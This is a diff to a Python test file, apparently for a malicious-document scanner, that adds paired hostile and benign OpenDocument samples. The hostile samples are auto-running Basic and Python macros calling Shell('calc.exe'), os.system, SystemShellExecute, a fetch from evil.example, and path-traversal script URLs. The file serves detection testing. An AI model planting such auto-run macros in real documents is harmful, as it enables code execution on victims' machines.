@@ -59,9 +59,26 @@ def console(command: bytes) -> bytes:
     )
 
 
+def packed_odt(content: bytes, module: bytes, place: str = "Basic/Standard/a.xml", *, office: bool = False) -> bytes:
+    """Return a document whose first member, which tells its kind, is packed, as common writers of archives do."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
+        archive.writestr("content.xml", content)
+        archive.writestr(place, module)
+        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
+        if office:
+            archive.writestr("[Content_Types].xml", "<Types/>")
+    return out.getvalue()
+
+
 LISTENER = (
     b'<office:document-content><script:event-listener script:event-name="dom:load" '
     b'xlink:href="vnd.sun.star.script:%s"/></office:document-content>'
+)
+FLAT = (
+    b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
+    b"%s</office:document>"
 )
 LIBRARY = b"<libraryDescription><simpleLocation><url>%s</url></simpleLocation></libraryDescription>"
 SEARCH = b'<html><script>location="%s"</script></html>'
@@ -116,6 +133,60 @@ CASES: dict[str, tuple[str, bytes, bytes]] = {
         "a.odt",
         odt(LISTENER % b"../../../program/python-core/pydoc.py$tempfilepager(1,a)?language=Python"),
         odt(LISTENER % b"own.py$main?language=Basic"),
+    ),
+    "OpenDocument macro, its kind packed": (
+        "a.odt",
+        packed_odt(
+            LISTENER % b"Standard.a.Main?language=Basic&amp;location=document", b'Sub Main\nShell("calc.exe",1)'
+        ),
+        packed_odt(LISTENER % b"Standard.a.Main?language=Basic&amp;location=document", b'Sub Main\nMsgBox "Bonjour"'),
+    ),
+    "OpenDocument macro, with a member of Office beside": (
+        "a.odt",
+        packed_odt(LISTENER % b"Standard.a.Main?language=Basic", b'Shell("calc.exe",1)', office=True),
+        packed_odt(LISTENER % b"Standard.a.Main?language=Basic", b'MsgBox "Bonjour"', office=True),
+    ),
+    "OpenDocument macro that only exists": (
+        "a.odt",
+        packed_odt(
+            LISTENER % b"Standard.a.Main?language=Basic",
+            b'x = createUnoService("com.sun.star.system.SystemShellExecute")',
+        ),
+        packed_odt(b"<office:document-content/>", b'x = createUnoService("com.sun.star.system.SystemShellExecute")'),
+    ),
+    "OpenDocument macro in Python": (
+        "a.ods",
+        packed_odt(
+            (LISTENER % b"a.py$go?language=Python&amp;location=document").replace(b"dom:load", b"office:new"),
+            b"import os\ndef go(*x):\n    os.system('calc')",
+            "Scripts/python/a.py",
+        ),
+        packed_odt(
+            (LISTENER % b"a.py$go?language=Python&amp;location=document").replace(b"dom:load", b"office:new"),
+            b"def go(*x):\n    total()",
+            "Scripts/python/a.py",
+        ),
+    ),
+    "OpenDocument that fetches": (
+        "a.odt",
+        packed_odt(
+            LISTENER % b"Standard.a.Main?language=Basic",
+            b'd.loadComponentFromURL("https://evil.example/a.odt", "_blank", 0, x())',
+        ),
+        packed_odt(
+            LISTENER % b"Standard.a.Main?language=Basic",
+            b'd.loadComponentFromURL("private:factory/scalc", "_blank", 0, x())',
+        ),
+    ),
+    "OpenDocument that calls Python, spelled in numbers": (
+        "a.odt",
+        odt(LISTENER % b"%2e%2e%2Fprogram/a.py&#36;b(1,'c')?language=Python&amp;location=share"),
+        odt(LISTENER % b"forms/a.py$fill?language=Python&amp;location=document"),
+    ),
+    "flat OpenDocument that calls Python": (
+        "a.fodt",
+        FLAT % (LISTENER % b"../../../program/a.py$b(1,c)?language=Python&amp;location=share"),
+        FLAT % (LISTENER % b"a.py$fill?language=Python&amp;location=document"),
     ),
     "settings with a command": (
         "a.SettingContent-ms",
